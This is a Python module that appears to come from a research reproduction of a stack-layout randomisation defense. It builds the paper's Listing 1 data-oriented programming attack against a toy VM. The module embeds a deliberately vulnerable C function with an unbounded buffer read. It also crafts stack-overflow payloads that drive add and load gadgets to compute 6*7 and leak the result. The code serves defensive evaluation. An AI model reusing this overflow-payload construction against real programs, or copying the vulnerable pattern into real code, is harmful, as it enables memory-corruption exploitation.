"""The paper's Listing 1: the canonical DOP gadget dispatcher.

Listing 1 of the paper is the minimal data-oriented program: a loop
(whose counter the attacker controls) around an input function with a
stack buffer overflow, plus a few conditionals on non-control data that
form ADD / SUB / LOAD gadgets:

.. code-block:: c

    func() {
        int *ctr, *size = 0, *step = 1;
        char buff[LEN]; int *req;
        for (; ctr < MAX; ctr++) {
            get_input(buff, req);            // vulnerable
            if (*req == 0)      *size += *step;
            else if (*req == 1) *size -= *step;
            else                *step  = *req;
        }
    }

"This grants an attacker the ability to perform addition, subtraction
and copy operations on any memory value, in any order desired by the
attacker" — i.e. Turing-complete computation inside the legitimate CFG.

The analogue below keeps the dispatcher *inside* the vulnerable function
(as in the listing), which means one process = one frame layout for the
whole gadget program.  There is deliberately no disclosure channel: the
attacker aims with static analysis alone, so the experiment isolates the
value of making the layout unknowable (per-process here, since the
function runs once) rather than merely unleaked.

The demonstration payload computes ``6 * 7`` by repeated addition into a
global accumulator and exfiltrates the result — a tiny but genuinely
*computational* DOP program.
"""

from __future__ import annotations

from typing import Dict, List, Optional

from repro.attacks.harness import AttackScenario
from repro.attacks.model import AttackReport
from repro.attacks.overflow import le64, overflow_payload
from repro.defenses.base import Defense, ProgramBuild
from repro.vm.interpreter import ExecutionResult, Machine

#: What the attacker's DOP program computes; observed on the output.
EXPECTED_PRODUCT = 42

#: Gadget selectors (values of ``req``).
REQ_ADD = 0
REQ_SUB = 1
REQ_LOAD = 2
REQ_SEND = 3
REQ_IDLE = 9

SOURCE = """
long g_acc = 0;
long g_tmp = 0;

int func() {
    long ctr = 24;             /* dispatcher bound: attacker-controllable */
    long *size = &g_acc;       /* gadget operand pointers                 */
    long *step = &g_tmp;
    long req = 9;              /* gadget selector (9 = idle)              */
    long round = 0;
    char buff[64];
    while (round < ctr) {
        input_read_unbounded(buff);   /* the vulnerable input function */
        if (req == 0) {
            *size = *size + *step;    /* ADD gadget */
        } else if (req == 1) {
            *size = *size - *step;    /* SUB gadget */
        } else if (req == 3) {
            output_bytes((char*)size, 8);   /* observe (reply path) */
        } else {
            *step = req;              /* the paper's `*step = *req` */
        }
        round++;
    }
    return (int)round;
}

int main() {
    char reserve[512];
    reserve[0] = 0;
    return func();
}
"""


class Listing1DopAttack(AttackScenario):
    """Drive Listing 1's gadgets to compute and exfiltrate 6*7.

    Per loop round the overflow rewrites the gadget state
    (``req``/``size``/``step`` and the bound ``ctr``): the attacker's
    virtual program is

    ====  =======================  =================================
    round gadget                    effect
    ====  =======================  =================================
    1     LOAD (req = 2 | 7<<8)    ``g_tmp = 7``
    2-7   ADD                      ``g_acc += g_tmp``  (six times)
    8     SEND                     reply carries ``g_acc`` (= 42)
    ====  =======================  =================================

    All writes are raw bytes (the input primitive is a bounded-length
    read, not a string copy), so pointers with zero bytes pose no
    difficulty; what the attacker *must* know is each variable's offset
    from the buffer — exactly the knowledge Smokestack revokes.
    """

    name = "listing1-dop"
    victim_function = "func"
    description = "paper Listing 1: add/sub/load gadget dispatcher"
    source = SOURCE

    def goal_met(self, result: ExecutionResult) -> bool:
        return le64(EXPECTED_PRODUCT) in bytes(result.output_data)

    def make_input_hook(self, build: ProgramBuild, rng, attempt):
        oracle = build.layout_oracle(self.victim_function)
        image = build.make_machine().image
        acc_addr = image.address_of_global("g_acc")
        tmp_addr = image.address_of_global("g_tmp")
        needed = ("buff", "req", "size", "step", "ctr", "round")
        plan: List[bytes] = []
        if all(name in oracle for name in needed):
            def strike(req: int, size: Optional[int] = None,
                       step: Optional[int] = None) -> bytes:
                # Every slot the filler would cross gets an explicit,
                # consistent value — precise control, as real DOP needs.
                writes: Dict[str, bytes] = {
                    "req": le64(req),
                    "ctr": le64(24),
                    "round": le64(0),
                    "size": le64(size if size is not None else acc_addr),
                    "step": le64(step if step is not None else tmp_addr),
                }
                return overflow_payload(oracle, "buff", writes, filler=b"\x00")

            # LOAD: any req outside {0,1,3} stores req itself through step
            # (the listing's else-branch), so "load 7" is simply req=7.
            plan = [strike(7, step=tmp_addr)]
            plan += [strike(REQ_ADD, size=acc_addr, step=tmp_addr)] * 6
            plan += [strike(REQ_SEND, size=acc_addr)]

        state = {"served": 0}

        def hook(machine: Machine) -> Optional[bytes]:
            index = state["served"]
            state["served"] += 1
            if index < len(plan):
                return plan[index]
            return b"x"  # idle filler rounds

        return hook


def run_listing1_campaign(
    defense: Defense, restarts: int = 8, seed: int = 0
) -> AttackReport:
    """Convenience wrapper used by tests and the security benchmark."""
    from repro.attacks.harness import run_campaign

    return run_campaign(Listing1DopAttack(), defense, restarts=restarts, seed=seed)
